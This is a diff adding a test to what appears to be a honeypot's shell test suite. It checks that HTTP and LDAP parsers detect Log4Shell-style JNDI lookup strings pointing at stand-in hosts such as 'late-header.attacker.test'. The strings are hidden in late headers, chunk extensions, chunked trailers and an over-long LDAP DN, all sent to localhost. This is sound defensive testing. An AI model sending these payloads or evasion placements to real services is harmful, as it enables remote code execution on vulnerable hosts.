@@ -80,6 +80,59 @@ ok "flood of $sent events from 60 addresses in ${secs}s: $logged logged, $supp s
 hp_stop
 grep -qE "stopped: .* $supp suppressed \(global ceiling\)" "$T/hp.err" || fail "summary lacks the global suppressed count: $(grep stopped: "$T/hp.err")"
 
+# ---- item 17: what the parsers used to skip is scanned ---------------------------
+read -r PW PL < <(freeports 2)
+cat >"$T/hp.conf" <<CONF
+log_file $T/events.jsonl
+dedup_window 0
+max_message 128K
+[listener web]
+protocol http
+listen 127.0.0.1:$PW
+[listener ldap]
+protocol ldap
+listen 127.0.0.1:$PL
+CONF
+hp_start "$T/hp.conf"
+python3 - "$PW" "$PL" <<'PY'
+import socket, sys
+pw, pl = int(sys.argv[1]), int(sys.argv[2])
+def http(raw):
+    s = socket.create_connection(("127.0.0.1", pw), timeout=5); s.sendall(raw)
+    s.settimeout(2)
+    try:
+        s.recv(65536)
+    except socket.timeout:
+        pass
+    s.close()
+hdrs = "".join("X-H%d: v\r\n" % i for i in range(104))
+http(("GET /many HTTP/1.1\r\nHost: x\r\n" + hdrs +
+      "X-Late: ${jndi:ldap://late-header.attacker.test/a}\r\nConnection: close\r\n\r\n").encode())
+http(b"POST /ext HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
+     b"4;x=${jndi:ldap://chunk-ext.attacker.test/a}\r\nabcd\r\n0\r\n"
+     b"X-Trailer: ${jndi:ldap://trailer.attacker.test/a}\r\n\r\n")
+def tlv(tag, body):
+    n = len(body)
+    ln = bytes([n]) if n < 128 else (b"\x82" + n.to_bytes(2, "big") if n < 65536 else b"\x83" + n.to_bytes(3, "big"))
+    return bytes([tag]) + ln + body
+dn = b"cn=" + b"a" * 17000 + b",${jndi:ldap://long-dn.attacker.test/a}"
+search = tlv(0x63, tlv(0x04, dn) + b"\x0a\x01\x00\x0a\x01\x00\x02\x01\x00\x02\x01\x00\x01\x01\x00"
+             + tlv(0x87, b"objectClass") + tlv(0x30, b""))
+msg = tlv(0x30, b"\x02\x01\x01" + search)
+s = socket.create_connection(("127.0.0.1", pl), timeout=5); s.sendall(msg)
+s.settimeout(2)
+try:
+    s.recv(4096)
+except socket.timeout:
+    pass
+s.close()
+PY
+for host in late-header chunk-ext trailer long-dn; do
+    wait_events "$EV" "ldap://$host\\.attacker\\.test/a" 1 5
+done
+ok "scanned: a header after the 100th, a chunk extension, a chunked trailer, an LDAP DN past 16 KiB"
+hp_stop
+
 # ---- item 16: RLIMIT_NOFILE below max_connections --------------------------------
 read -r PF < <(freeports 1)
 cat >"$T/fd.conf" <<CONF
